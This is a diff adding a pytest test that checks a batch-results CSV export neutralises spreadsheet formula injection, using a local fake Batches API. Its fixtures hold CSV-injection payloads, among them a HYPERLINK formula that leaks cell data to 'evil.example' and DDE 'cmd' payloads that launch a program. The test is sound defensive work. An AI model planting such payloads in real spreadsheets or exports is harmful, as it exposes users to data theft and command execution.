@@ -3,14 +3,21 @@ formulas in CSV exports, a 300 MB request line, and a stored key in a world-read
 
 from __future__ import annotations
 
+import csv
+import json
 import os
 import pty
 import select
 import sqlite3
 import subprocess
 import sys
+import threading
 import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -19,6 +26,7 @@ from batchdeck.core.jobstore import ContentClaimed, JobStore
 from batchdeck.core.migrations import MIGRATIONS
 from batchdeck.core.workspace import Workspace
 from batchdeck.emulator import Emulator
+from tests.core.conftest import run_cli
 from tests.core.jobs_helpers import client_batches, write_requests
 
 BATCHDECK = [sys.executable, "-m", "batchdeck"]
@@ -106,3 +114,101 @@ def test_the_migration_keeps_every_job_of_a_content_submitted_twice(tmp_path: Pa
             JobStore(db, "default").new_job("a", None, "hash-a", 2, "2026-11-05T10:00:00.000000Z", claim=True)
     finally:
         db.close()
+
+
+# -- 10. CSV cells a spreadsheet would run as formulas -----------------------------------------
+
+BATCH_ID = "msgbatch_01FormulaCells"
+STAMP = "2026-11-01T12:00:00.000000Z"
+
+
+def _succeeded(custom_id: str, text: str) -> dict[str, Any]:
+    return {"custom_id": custom_id, "result": {"type": "succeeded", "message": {
+        "id": f"msg_{custom_id.strip('-')}", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
+        "content": [{"type": "text", "text": text}], "stop_reason": "end_turn", "stop_sequence": None,
+        "usage": {"input_tokens": 12, "output_tokens": 7}}}}
+
+
+FORMULA_ROWS = [
+    _succeeded("eq", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    _succeeded("plus", "+1+cmd|' /C calc'!A0"),
+    _succeeded("minus", "-2+3"),
+    _succeeded("at", "@SUM(1,2)"),
+    _succeeded("tab", "\t=1+1"),
+    _succeeded("cr", "\r=1+1"),
+    _succeeded("-leading-dash", "a plain answer"),
+    _succeeded("plain", "billing: it is fine = good"),
+    {"custom_id": "err", "result": {"type": "errored", "error": {"type": "error", "error": {
+        "type": "invalid_request_error", "message": "=cmd|' /C calc'!A0"}}}},
+]
+RESULTS_BODY = b"".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"
+                        for r in FORMULA_ROWS)
+
+
+def _batch(base_url: str) -> dict[str, Any]:
+    counts = {"processing": 0, "succeeded": 8, "errored": 1, "canceled": 0, "expired": 0}
+    return {"id": BATCH_ID, "type": "message_batch", "processing_status": "ended", "request_counts": counts,
+            "created_at": STAMP, "ended_at": STAMP, "expires_at": "2026-11-02T12:00:00.000000Z",
+            "cancel_initiated_at": None, "archived_at": None,
+            "results_url": f"{base_url}/v1/messages/batches/{BATCH_ID}/results"}
+
+
+class _OneBatchApi(BaseHTTPRequestHandler):
+    """A minimal Batches API holding one ended batch whose results are chosen by the test."""
+
+    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
+        base = f"http://127.0.0.1:{self.server.server_address[1]}"
+        path = self.path.split("?", 1)[0]
+        if path == "/v1/messages/batches":
+            body = json.dumps({"data": [_batch(base)], "has_more": False, "first_id": BATCH_ID,
+                               "last_id": BATCH_ID}).encode()
+            self._send(200, "application/json", body)
+        elif path == f"/v1/messages/batches/{BATCH_ID}":
+            self._send(200, "application/json", json.dumps(_batch(base)).encode())
+        elif path == f"/v1/messages/batches/{BATCH_ID}/results":
+            self._send(200, "application/x-jsonl", RESULTS_BODY)
+        else:
+            self._send(404, "application/json", b'{"type":"error","error":{"type":"not_found_error","message":"no"}}')
+
+    def _send(self, status: int, kind: str, body: bytes) -> None:
+        self.send_response(status)
+        self.send_header("content-type", kind)
+        self.send_header("content-length", str(len(body)))
+        self.send_header("request-id", "req_fake")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@contextmanager
+def one_batch_api() -> Iterator[str]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _OneBatchApi)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised(home: Path, tmp_path: Path,
+                                                               monkeypatch: pytest.MonkeyPatch,
+                                                               capsys: pytest.CaptureFixture[str]) -> None:
+    with one_batch_api() as base_url:
+        monkeypatch.setenv("ANTHROPIC_BASE_URL", base_url)
+        assert run_cli(capsys, "sync")[0] == 0
+        for fmt in ("csv", "jsonl"):
+            code, _, err = run_cli(capsys, "export", BATCH_ID, "--format", fmt, "-o", str(tmp_path / f"out.{fmt}"))
+            assert code == 0, err
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
+        rows = {r["custom_id"]: r for r in csv.DictReader(fh)}
+    texts = {cid: row["text"] for cid, row in rows.items()}
+    assert texts == {"eq": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "plus": "'+1+cmd|' /C calc'!A0",
+                     "minus": "'-2+3", "at": "'@SUM(1,2)", "tab": "'\t=1+1", "cr": "'\r=1+1",
+                     "'-leading-dash": "a plain answer", "plain": "billing: it is fine = good", "err": ""}
+    assert rows["err"]["error_message"] == "'=cmd|' /C calc'!A0"
+    assert rows["plain"]["input_tokens"] == "12" and rows["plain"]["error_type"] == ""
+    assert (tmp_path / "out.jsonl").read_bytes() == RESULTS_BODY  # the raw export stays exact
